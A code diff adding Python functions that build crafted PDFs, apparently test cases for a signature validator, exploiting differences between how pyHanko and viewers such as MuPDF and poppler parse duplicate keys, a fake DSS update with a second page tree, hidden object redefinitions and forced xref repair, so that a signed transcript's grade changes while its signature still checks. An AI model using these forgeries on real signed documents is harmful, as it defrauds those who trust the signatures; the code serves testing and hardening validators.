@@ -1118,3 +1118,92 @@ def form_redrawn(pdf: bytes, variant: str) -> bytes:
     out = BytesIO()
     writer.write(out)
     return out.getvalue()
+
+
+# -- Parser differentials: what pyHanko reads and what a viewer shows --------------------------------
+
+
+def duplicate_key_page(pdf: bytes, new: bytes = b"Diem Toan: 3") -> bytes:
+    """A later update rewrites the page as it was signed plus a second ``/Contents`` pointing at a
+    new stream. pyHanko's lenient reader keeps a repeated key's first value (the page looks
+    unchanged to it); MuPDF and poppler keep the last and draw the new stream."""
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
+    page = _serialised(page_ref.get_object())
+    assert page.rstrip().endswith(b">>")
+    number = int(reader.trailer["/Size"])
+    data = b"BT /F1 24 Tf 72 700 Td (" + new + b") Tj ET"
+    objects = {
+        page_ref.idnum: page.rstrip()[:-2] + b" /Contents %d 0 R >>" % number,
+        number: b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
+    }
+    return _xref_stream_update(pdf, objects, {}, with_dss=False)
+
+
+def duplicate_key_catalog_as_validation_data(pdf: bytes, new: bytes = b"Diem Toan: 3") -> bytes:
+    """An update dressed as validation data whose catalogue is the signed one plus ``/DSS`` and a
+    second ``/Pages``: a whole new page tree, reachable from the DSS too. To pyHanko only a /DSS
+    was added; a viewer shows the new pages."""
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    size = int(reader.trailer["/Size"])
+    pages, page, content, dss = size, size + 1, size + 2, size + 3
+    old_page = reader.root["/Pages"].raw_get("/Kids").raw_get(0).get_object()
+    resources = _serialised(old_page.raw_get("/Resources"))
+    catalog = _serialised(reader.root).rstrip()
+    data = b"BT /F1 24 Tf 72 700 Td (" + new + b") Tj ET"
+    objects = {
+        reader.trailer.raw_get("/Root").idnum: catalog[:-2]
+        + b" /DSS %d 0 R /Pages %d 0 R >>" % (dss, pages),
+        dss: b"<< /Certs [] /VRI << /T %d 0 R >> >>" % pages,
+        pages: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page,
+        page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources " % pages
+        + resources
+        + b" /Contents %d 0 R >>" % content,
+        content: b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
+    }
+    return _xref_stream_update(pdf, objects, {}, with_dss=False)
+
+
+def repair_prepared_pdf() -> bytes:
+    """A one-page transcript showing "Diem Toan: 7" whose file also holds, after the listed
+    objects and listed nowhere, a second definition of the page content showing "Diem Toan: 10":
+    every reader follows the cross-reference table and shows 7 — until it has to repair it."""
+    genuine = b"BT /F1 24 Tf 72 700 Td (Diem Toan: 7) Tj ET"
+    hidden = b"BT /F1 24 Tf 72 700 Td (Diem Toan: 10) Tj ET"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
+        b" /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
+        b"<< /Length %d >>\nstream\n" % len(genuine) + genuine + b"\nendstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    out += b"4 0 obj\n<< /Length %d >>\nstream\n" % len(hidden) + hidden + b"\nendstream\nendobj\n"
+    table = len(out)
+    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table
+    return bytes(out)
+
+
+def object_zero_in_use(pdf: bytes) -> bytes:
+    """An update that changes nothing but lists object 0 — the head of the free list — as in use
+    at an offset past the end: pyHanko ignores the entry, MuPDF "repairs" the file by scanning it
+    and takes the last definition of each object it finds, the hidden one included."""
+    reader = PdfFileReader(BytesIO(pdf), strict=False)
+    info = reader.trailer.raw_get("/Info") if "/Info" in reader.trailer else None
+    return pdf + (
+        b"\nxref\n0 1\n9999999999 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d%s >>\n"
+        b"startxref\n%d\n%%%%EOF\n"
+        % (
+            int(reader.trailer["/Size"]),
+            reader.trailer.raw_get("/Root").idnum,
+            last_startxref(pdf),
+            b" /Info %d 0 R" % info.idnum if info is not None else b"",
+            len(pdf) + 1,
+        )
+    )
